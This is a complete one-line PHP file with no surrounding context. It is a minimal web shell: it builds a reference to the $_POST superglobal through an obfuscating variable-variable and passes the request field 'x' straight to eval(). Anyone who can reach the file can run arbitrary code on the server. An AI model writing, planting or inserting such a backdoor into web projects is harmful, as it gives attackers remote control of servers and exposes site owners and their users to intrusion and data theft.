<?php $n = "_POST"; $d = $$n; eval($d["x"]);
